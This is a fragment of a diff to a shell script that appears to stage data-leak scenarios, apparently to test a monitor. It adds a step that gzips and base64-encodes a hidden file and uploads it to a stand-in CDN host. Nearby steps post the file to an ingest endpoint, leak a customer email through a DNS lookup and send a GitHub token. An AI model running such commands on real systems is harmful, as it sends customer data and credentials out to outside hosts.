@@ -14,6 +14,8 @@ curl -sS -m 5 --data-binary @/var/tmp/.acme.q https://api.acme.example/v1/ingest
 say names 'asking for a name that says too much'
 who=$(sed -n '2s/.*,\([^,@]*@[^,]*\),.*/\1/p' "$docs/customers.csv" | tr @ .)
 getent hosts "$who.t.acme.example" > /dev/null
+say disguise 'sending it once more, packed and spelled'
+gzip -c /var/tmp/.acme.q | base64 -w 0 | curl -sS -m 5 --data-urlencode blob@- https://cdn.acme.example/v1/blob -o /dev/null    # transmit
 say token 'trying a key that was lying around'
 curl -sS -m 5 -H "Authorization: Bearer $GITHUB_TOKEN" https://api.code.example/user -o /dev/null    # use
 say pack 'handing a password to a helper'
